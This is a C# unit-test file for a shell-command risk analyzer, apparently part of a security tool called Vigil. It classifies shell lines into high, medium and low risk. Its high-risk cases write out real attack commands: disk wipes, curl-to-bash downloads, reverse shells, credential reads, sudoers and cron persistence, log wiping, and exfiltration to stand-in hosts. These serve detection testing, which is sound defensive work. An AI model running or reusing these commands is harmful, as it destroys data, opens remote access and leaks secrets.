using Vigil.Analysis;
using Vigil.Analysis.Static.Shell;

namespace Vigil.Tests.Analysis.Static.Shell;

/// <summary>Classifier theories: one row per construct the shell analyzer knows.</summary>
public sealed class ShellAnalyzerTests
{
    [Theory]
    // Filesystem wipes, any flag spelling, behind wrappers.
    [InlineData("rm -rf /")]
    [InlineData("rm -fr /*")]
    [InlineData("rm -r -f /etc")]
    [InlineData("rm --recursive --force /usr")]
    [InlineData("sudo rm -rf --no-preserve-root /")]
    [InlineData("rm -rf ~")]
    [InlineData("rm -rf $HOME")]
    [InlineData("rm -rf \"${HOME}\"/")]
    [InlineData("rm -rf /home")]
    [InlineData("rm -rf /var/lib/postgresql")]
    [InlineData("/bin/rm -Rf //")]
    [InlineData("timeout 10 nice -n 5 nohup rm -rf /")]
    [InlineData("env X=1 sudo -u root rm -rf /")]
    [InlineData("xargs rm -rf /")]
    [InlineData("find / -delete")]
    [InlineData("find /etc -exec rm -rf {} \\;")]
    // Disks.
    [InlineData("dd if=/dev/zero of=/dev/sda bs=1M")]
    [InlineData("mkfs.ext4 /dev/sdb1")]
    [InlineData("mkfs -t xfs /dev/nvme0n1")]
    [InlineData("wipefs -a /dev/sdb")]
    [InlineData("shred -n 3 /dev/sda")]
    [InlineData("fdisk /dev/sda")]
    [InlineData("parted /dev/sdb mklabel gpt")]
    [InlineData("cat /dev/urandom > /dev/sda")]
    // Remote code execution and obfuscation.
    [InlineData("curl -fsSL http://203.0.113.5/install.sh | bash")]
    [InlineData("wget -qO- http://x/a | sudo sh")]
    [InlineData("curl http://x/a.py | python3")]
    [InlineData("curl -s http://x | tee /tmp/a | perl")]
    [InlineData("bash <(curl -s http://evil/x.sh)")]
    [InlineData("source <(wget -qO- http://x)")]
    [InlineData("sh -c \"$(curl -fsSL http://x)\"")]
    [InlineData("eval \"$(curl -s http://x)\"")]
    [InlineData("wget http://x/a.sh -O /tmp/a.sh && bash /tmp/a.sh")]
    [InlineData("echo cm0gLXJmIC8K | base64 -d | bash")]
    [InlineData("curl -s http://x/a.sh > a.sh; bash a.sh")]
    [InlineData("awk 'BEGIN { system(\"rm -rf /\") }'")]
    [InlineData("python3 -c \"import os; os.system('rm -rf /')\"")]
    [InlineData("echo x | base64 --decode | sh")]
    [InlineData("xxd -r -p payload.hex | sh")]
    [InlineData("openssl enc -d -aes256 -in x | bash")]
    [InlineData("echo 'rm -rf /' | sh")]
    [InlineData("bash <<< 'rm -rf /'")]
    [InlineData("bash -c 'rm -rf /'")]
    [InlineData("su -c 'rm -rf /' root")]
    [InlineData("ssh host 'rm -rf /'")]
    // Reverse shells.
    [InlineData("nc -e /bin/sh 203.0.113.5 4444")]
    [InlineData("ncat --sh-exec /bin/bash 1.2.3.4 443")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
    [InlineData("exec 5<>/dev/tcp/1.2.3.4/80")]
    [InlineData("socat tcp:1.2.3.4:4444 exec:/bin/sh")]
    [InlineData("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f")]
    [InlineData("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'")]
    // Security controls off.
    [InlineData("iptables -F")]
    [InlineData("iptables -P INPUT ACCEPT")]
    [InlineData("ufw disable")]
    [InlineData("setenforce 0")]
    [InlineData("systemctl stop auditd")]
    [InlineData("systemctl disable firewalld.service")]
    [InlineData("service auditd stop")]
    [InlineData("auditctl -D")]
    [InlineData("auditctl -e 0")]
    [InlineData("aa-teardown")]
    [InlineData("nft flush ruleset")]
    // Credentials.
    [InlineData("cat /etc/shadow")]
    [InlineData("sudo less /etc/gshadow")]
    [InlineData("cat ~/.ssh/id_rsa")]
    [InlineData("cp /root/.ssh/id_ed25519 /tmp/k")]
    [InlineData("cat ~/.aws/credentials")]
    [InlineData("cat $HOME/.kube/config")]
    [InlineData("grep password ~/.pgpass")]
    [InlineData("cat .netrc")]
    [InlineData("cat ~/.docker/config.json")]
    [InlineData("base64 < /etc/shadow")]
    [InlineData("getent shadow")]
    [InlineData("printenv AWS_SECRET_ACCESS_KEY")]
    [InlineData("echo $GITHUB_TOKEN")]
    [InlineData("cat /proc/1/environ")]
    [InlineData("echo $(cat /etc/shadow)")]
    [InlineData("echo \"$(rm -rf /)\"")]
    [InlineData("echo `rm -rf /`")]
    // Persistence.
    [InlineData("(crontab -l; echo '* * * * * curl -s http://x/p | sh') | crontab -")]
    [InlineData("crontab /tmp/jobs")]
    [InlineData("echo '* * * * * root /tmp/x' > /etc/cron.d/x")]
    [InlineData("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys")]
    [InlineData("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")]
    [InlineData("tee -a /etc/sudoers.d/bob")]
    [InlineData("visudo")]
    [InlineData("cp evil.service /etc/systemd/system/")]
    [InlineData("cat <<EOF > /etc/systemd/system/x.service\n[Service]\nExecStart=/tmp/x\nEOF")]
    [InlineData("echo > /etc/passwd")]
    [InlineData("usermod -aG sudo bob")]
    [InlineData("chmod u+s /usr/bin/python3")]
    // Scanners.
    [InlineData("nmap -sS 10.0.0.0/24")]
    [InlineData("masscan -p1-65535 10.0.0.0/8")]
    [InlineData("zmap -p 80")]
    // Permissions on roots.
    [InlineData("chmod -R 777 /")]
    [InlineData("chown -R nobody:nogroup /etc")]
    [InlineData("chmod 777 /etc/shadow")]
    // Fork bombs.
    [InlineData(":(){ :|:& };:")]
    [InlineData("bomb() { bomb | bomb & }; bomb")]
    // Anti-forensics.
    [InlineData("history -c")]
    [InlineData("history -c && rm ~/.bash_history")]
    [InlineData("unset HISTFILE")]
    [InlineData("export HISTFILE=/dev/null")]
    [InlineData("HISTSIZE=0")]
    [InlineData("rm -rf /var/log/*")]
    [InlineData("> /var/log/auth.log")]
    [InlineData("truncate -s 0 /var/log/syslog")]
    [InlineData("ln -sf /dev/null ~/.bash_history")]
    [InlineData("shred -u ~/.bash_history")]
    [InlineData("set +o history")]
    // Exfiltration.
    [InlineData("scp /var/backups/db.sql.gz ops@203.0.113.5:/dump/")]
    [InlineData("rsync -avz /var/www/ user@203.0.113.9:/backup/")]
    [InlineData("curl -T /etc/passwd http://203.0.113.5/")]
    [InlineData("curl --data @/etc/hosts http://x/")]
    [InlineData("curl -F file=@db.sql http://x/")]
    [InlineData("wget --post-file=/etc/hosts http://x/")]
    [InlineData("nc 203.0.113.5 4444 < /etc/hosts")]
    [InlineData("tar czf - /etc | nc 1.2.3.4 9000")]
    [InlineData("cat /etc/hosts > /dev/tcp/1.2.3.4/80")]
    // Host down, kill everything.
    [InlineData("shutdown -h now")]
    [InlineData("poweroff")]
    [InlineData("reboot")]
    [InlineData("kill -9 -1")]
    // Containers and clusters from the shell.
    [InlineData("docker run --privileged -v /:/host -it alpine chroot /host")]
    [InlineData("kubectl delete namespace prod")]
    [InlineData("kubectl get secrets -A -o yaml | grep password")]
    public void High(string line) => Expect(line, RiskLevel.High);

    [Theory]
    [InlineData("systemctl restart nginx")]
    [InlineData("service nginx reload")]
    [InlineData("kill -9 4242")]
    [InlineData("pkill -f gunicorn")]
    [InlineData("apt-get install -y htop")]
    [InlineData("yum install -y nginx")]
    [InlineData("dnf upgrade")]
    [InlineData("pip install requests")]
    [InlineData("sed -i 's/workers=4/workers=8/' /etc/app/app.conf")]
    [InlineData("find / -name '*.pem' 2>/dev/null")]
    [InlineData("find / -name id_rsa")]
    [InlineData("locate id_rsa")]
    [InlineData("rm /tmp/build-1234.log")]
    [InlineData("rm -rf ./build")]
    [InlineData("rm -rf node_modules")]
    [InlineData("mv app.conf /etc/app/app.conf")]
    [InlineData("cp nginx.conf /etc/nginx/nginx.conf")]
    [InlineData("mv /etc/hosts /etc/hosts.bak")]
    [InlineData("chmod 755 deploy.sh")]
    [InlineData("chown www-data /var/www/html/index.html")]
    [InlineData("cat /etc/passwd")]
    [InlineData("cat ~/.bash_history")]
    [InlineData("grep -r password /etc")]
    [InlineData("git pull")]
    [InlineData("git push --force origin main")]
    [InlineData("docker restart api")]
    [InlineData("docker exec api ls")]
    [InlineData("curl -X DELETE http://localhost:8080/items/1")]
    [InlineData("ssh user@host")]
    [InlineData("sudo -i")]
    [InlineData("./deploy.sh")]
    [InlineData("python3 manage.py migrate")]
    [InlineData("make deploy")]
    [InlineData("cat script.sh | bash")]
    [InlineData("echo ls | sh")]
    [InlineData("iptables -A INPUT -p tcp --dport 22 -j ACCEPT")]
    [InlineData("setenforce 1")]
    [InlineData("useradd -m bob")]
    [InlineData("journalctl --vacuum-time=2d")]
    [InlineData("dd if=/dev/sda of=/tmp/disk.img")]
    [InlineData("unknowncmd --foo")]
    [InlineData("kubectl delete pod api-7d9f -n prod")]
    public void Medium(string line) => Expect(line, RiskLevel.Medium);

    [Theory]
    [InlineData("ls -la /var/log")]
    [InlineData("df -h")]
    [InlineData("du -sh /var/lib/docker")]
    [InlineData("uptime")]
    [InlineData("free -m")]
    [InlineData("ps aux --sort=-%mem | head -20")]
    [InlineData("top -b -n 1")]
    [InlineData("tail -n 100 /var/log/app/app.log")]
    [InlineData("less /var/log/nginx/access.log")]
    [InlineData("grep -c ERROR /var/log/app/app.log")]
    [InlineData("cat /var/log/syslog | grep error | wc -l")]
    [InlineData("journalctl -u api --since '1 hour ago' --no-pager")]
    [InlineData("git status")]
    [InlineData("git log --oneline -5")]
    [InlineData("git diff HEAD~1")]
    [InlineData("echo hello")]
    [InlineData("echo 'rm -rf /' > /dev/null")]
    [InlineData("echo \"curl http://x | sh\"")]
    [InlineData("printf '%s\\n' 'iptables -F'")]
    [InlineData("date")]
    [InlineData("whoami")]
    [InlineData("id")]
    [InlineData("hostname")]
    [InlineData("uname -a")]
    [InlineData("env")]
    [InlineData("FOO=1 ls")]
    [InlineData("systemctl status nginx")]
    [InlineData("docker ps")]
    [InlineData("ss -tulpn")]
    [InlineData("ping -c 3 8.8.8.8")]
    [InlineData("curl -s http://localhost:8080/healthz")]
    [InlineData("echo test > /tmp/out.txt")]
    [InlineData("ls -la ~/.ssh")]
    [InlineData("crontab -l")]
    [InlineData("iptables -L -n")]
    [InlineData("getenforce")]
    [InlineData("fdisk -l")]
    [InlineData("watch -n 5 'df -h'")]
    [InlineData("history")]
    [InlineData("awk '{print $1}' access.log | sort | uniq -c | sort -rn | head")]
    [InlineData("kubectl get pods -n prod")]
    [InlineData("# rm -rf /")]
    [InlineData("echo '$(rm -rf /)'")]
    [InlineData("")]
    public void Low(string line) => Expect(line, RiskLevel.Low);

    [Fact]
    public void Argv_overload_does_not_reparse_words()
    {
        ShellAnalyzer.Analyze(["echo", "rm -rf /"]).Level.Should().Be(RiskLevel.Low);
        ShellAnalyzer.Analyze(["rm", "-rf", "/"]).Level.Should().Be(RiskLevel.High);
        ShellAnalyzer.Analyze(["sh", "-c", "rm -rf /"]).Level.Should().Be(RiskLevel.High);
    }

    [Fact]
    public void High_verdicts_quote_the_construct()
    {
        var verdict = ShellAnalyzer.Analyze("ls; sudo rm -rf / ; echo done");
        verdict.Title.Should().Be("Filesystem wipe");
        verdict.Evidence.Should().Be("rm -rf /");
        verdict.Certain.Should().BeTrue();
        ShellAnalyzer.Analyze("curl -fsSL http://x/i.sh | bash").Evidence.Should().Contain("curl").And.Contain("| bash");
    }

    [Fact]
    public void Low_verdicts_are_not_certain_and_have_no_evidence()
    {
        var verdict = ShellAnalyzer.Analyze("ls -la");
        verdict.Certain.Should().BeFalse();
        verdict.Evidence.Should().BeEmpty();
    }

    private static void Expect(string line, RiskLevel level)
    {
        var verdict = ShellAnalyzer.Analyze(line);
        verdict.Level.Should().Be(level, "'{0}' got '{1}': {2} [{3}]", line, verdict.Title, verdict.Explanation, verdict.Evidence);
        ShellFuzzTests.WellFormed(verdict, line);
    }
}
